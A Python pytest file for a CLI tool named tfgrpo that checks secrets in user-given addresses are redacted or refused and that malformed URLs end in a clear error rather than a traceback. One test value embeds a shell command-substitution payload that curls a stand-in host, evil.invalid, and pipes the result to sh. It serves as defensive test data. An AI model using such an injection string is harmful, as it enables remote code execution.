"""Addresses that users give: no secret in one is kept or repeated, none ends in a traceback."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Cli

import tfgrpo
from tfgrpo.model.http_connection import Connection, models_at
from tfgrpo.production.webhook import checked_webhook
from tfgrpo.proxy.proxy_settings import outbound_proxy, parse_upstream
from tfgrpo.settings import TrainSettings, build
from tfgrpo.store.errors import BadLocation, TfgrpoError, hide_secrets
from tfgrpo.store.exit_codes import NOT_BEGUN
from tfgrpo.store.store import Store
from tfgrpo.store.transfer import locations
from tfgrpo.store.transfer.remotes import Remotes
from tfgrpo.tools.mcp_tools import Server
from tfgrpo.tools.search_provider import SearchTemplate
from tfgrpo.trust.permissions import of_proxy, of_remote
from tfgrpo.ui.notifications import teller

HIDDEN = "hunter2"
REFUSED = (
    f"ssh://far/p?token={HIDDEN}",
    f"SSH://ada@far:22/p?{HIDDEN}",
    f"ssh://far/p#{HIDDEN}",
    f"far:p?token={HIDDEN}",
    f"ada@far:~/p?a=1&key={HIDDEN}",
    f"https:/far/p?token={HIDDEN}",
)
"""Locations over ssh with a query, which ssh has no use for."""


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store.init(tmp_path / ".tfgrpo" / "store.db")


@pytest.mark.parametrize("location", REFUSED)
def test_a_location_with_a_query_is_refused_and_not_repeated(location: str, store: Store) -> None:
    for use in (locations.parse, lambda text: Remotes(store).add("far", text)):
        with pytest.raises(BadLocation, match="query") as caught:
            use(location)
        assert HIDDEN not in f"{caught.value}{caught.value.hint}"
    assert Remotes(store).all() == {}


def test_a_path_with_the_signs_of_a_query_is_a_location(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert locations.parse("team?a=1").path == str(tmp_path / "team?a=1")
    assert locations.parse("ssh://far/team%3Fa=1").path == "/team?a=1"
    assert locations.parse("far:what?").path == "what?"


@pytest.mark.parametrize("name", ["token", "password", "api_key", "oauth_client_secret", "sig"])
def test_a_database_is_recorded_without_what_is_called_like_a_secret(
    name: str, store: Store
) -> None:
    location = f"postgresql://ada@db.invalid/team?library=web&sslmode=require&{name}={HIDDEN}"
    shown = "postgresql://ada@db.invalid/team?sslmode=require&library=web"
    assert locations.parse(location).text == shown
    Remotes(store).add("db", location)
    assert Remotes(store).all() == {"db": shown}


def test_what_a_folder_is_trusted_with_is_told_without_secrets_and_whole_otherwise(
    tmp_path: Path,
) -> None:
    url = f"https://host.invalid/v1?api-version=2&token={HIDDEN}"
    told = of_proxy(tmp_path / "proxy.toml", {"upstream": url, "webhook": f"{url}&to=a@b.c"}).words
    assert all(HIDDEN not in line and "api-version=2&token=***" in line for line in told)
    assert "to=a@b.c" in told[-1]
    assert HIDDEN not in str(of_remote(tmp_path, "far", f"ssh://far/p?token={HIDDEN}").words)
    hiding = "http://host.invalid/?token=$(curl${IFS}evil.invalid|sh)"
    assert hide_secrets(hiding) == hiding


@pytest.mark.parametrize(
    "text",
    [
        f"mysql://ada:{HIDDEN}@db.invalid/team",
        f"http://host.invalid/p?Access-Token={HIDDEN}",
        f"file:///p?a=1&password={HIDDEN}",
        f"https://host.invalid/#access_token={HIDDEN}&x=1",
        f"host:p?api_key={HIDDEN}%2F==",
    ],
)
def test_no_error_repeats_a_secret_of_an_address(text: str) -> None:
    assert HIDDEN not in str(TfgrpoError(f"no file {text} is there"))
    with pytest.raises(TfgrpoError) as caught:
        tfgrpo.evaluate_sync("p.jsonl", store=text)
    assert HIDDEN not in f"{caught.value}{caught.value.hint}"


@pytest.mark.parametrize(
    "command",
    [
        "clone {}",
        "fetch {}",
        "remote add far {}",
        "--store {} log",
        "import {}",
        "init --from {}",
        "eval {} --model m",
        "workers list {}",
        "bundle verify {}",
        "proxy --port 0 --upstream {}",
    ],
)
def test_no_command_repeats_a_secret_of_an_address(command: str, cli: Cli) -> None:
    cli("init")
    done = cli(*command.format(f"ssh://far/p?token={HIDDEN}").split(), ok=False)
    assert done.returncode
    assert "Traceback" not in done.stderr
    assert HIDDEN not in done.stdout + done.stderr


MALFORMED = {
    "an IPv6 address that is cut off": "http://[::1",
    "an IPv6 address and more": f"http://[::1]{HIDDEN}/",
    "a port that is no number": f"http://host:{HIDDEN}/",
    "a port beyond the last": "http://host:99999/",
    "port 0": "http://host:0/",
    "no host": "http:///x",
    "dots alone": "http://../x",
    "a blank in the host": "http://a b/",
    "a blank in the path": "http://host/a b",
    "a line break": "http://ho\nst/",
    "a sign that stands for several": "http://ho℀st/",
    "no colon": "http//host/",
    "another scheme": "gopher://host/",
}
"""Addresses that no server has."""
READERS: dict[str, Callable[[str], object]] = {
    "webhook": checked_webhook,
    "notify": teller,
    "upstream": parse_upstream,
    "base_url": lambda url: build(TrainSettings, {"data": "p", "base_url": url}),
}


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("kind", MALFORMED)
def test_an_address_that_no_server_has_is_a_wrong_setting_with_a_hint(
    reader: str, kind: str
) -> None:
    with pytest.raises(TfgrpoError) as caught:
        READERS[reader](MALFORMED[kind])
    assert caught.value.exit_code == NOT_BEGUN
    assert caught.value.hint
    assert HIDDEN not in f"{caught.value}{caught.value.hint}"


@pytest.mark.parametrize("url", MALFORMED.values(), ids=MALFORMED)
def test_a_tool_at_an_address_that_no_server_has_is_refused_and_not_repeated(url: str) -> None:
    for tool in (lambda: Server(url=url), lambda: SearchTemplate(url=url, results="r")):
        with pytest.raises(ValueError, match="address") as caught:
            tool()
        assert HIDDEN not in str(caught.value.errors()[0]["msg"])  # type: ignore[attr-defined]


@pytest.mark.parametrize("kind", [kind for kind in MALFORMED if kind != "no colon"])
def test_a_proxy_of_the_environment_that_cannot_be_one_is_a_wrong_setting_with_a_hint(
    kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", MALFORMED[kind])
    for use in (lambda: models_at(Connection("https://model.invalid/v1")), _tunnel):
        with pytest.raises(TfgrpoError) as caught:
            use()
        assert caught.value.exit_code == NOT_BEGUN
        assert caught.value.hint
        assert HIDDEN not in f"{caught.value}{caught.value.hint}"


def _tunnel() -> object:
    return outbound_proxy("model.invalid")


@pytest.mark.parametrize(
    "url", ["http://[::1]:8000/v1", "https://bücher.example:443", "http://h:/"]
)
def test_an_address_that_a_server_may_have_is_taken(url: str) -> None:
    for reader in READERS.values():
        reader(url)
    for written in (url, "$WHERE/sse", "https://$HOST:$PORT/sse?key=$KEY"):
        assert Server(url=written).url == written
        assert SearchTemplate(url=written, results="r").url == written


@pytest.mark.parametrize(
    ("command", "variables"),
    [
        ("rollout main --on main --webhook {}", ()),
        ("ui --port 0 --notify {}", ()),
        ("proxy --port 0 --upstream {}", ()),
        ("model check --model m --base-url {}", ()),
        ("model check --model m", ("OPENAI_BASE_URL",)),
        ("model check --model m --base-url https://model.invalid", ("HTTPS_PROXY",)),
        ("--store postgresql://[::1 log", ()),
        ("clone ssh://[::1", ()),
    ],
)
def test_no_command_ends_in_a_traceback_by_an_address_that_is_cut_off(
    command: str, variables: tuple[str, ...], cli: Cli
) -> None:
    cli("init")
    url = MALFORMED["an IPv6 address that is cut off"]
    env = {"OPENAI_API_KEY": "k" * 20, **dict.fromkeys(variables, url)}
    done = cli(*command.format(url).split(), ok=False, env=env)
    assert done.returncode == NOT_BEGUN, done.stderr
    assert done.stderr.startswith("error: ")
    assert "\nhint: " in done.stderr


@pytest.mark.parametrize(
    "command",
    ["mirror git", "export -o", "checkout HEAD -o", "collect -o", "clone .", "plot -o"],
)
def test_no_folder_is_made_of_an_address_where_a_path_is_needed(
    command: str, store: Store, cli: Cli
) -> None:
    folder = store.path.parent.parent
    before = sorted(folder.rglob("*"))
    for scheme in ("ssh", "git+ssh", "S3"):
        done = cli(*command.split(), f"{scheme}://ada:{HIDDEN}@far/place", ok=False)
        assert done.returncode == 2
        assert f"{scheme}://… is an address" in done.stderr
        assert HIDDEN not in done.stdout + done.stderr
    assert sorted(folder.rglob("*")) == before
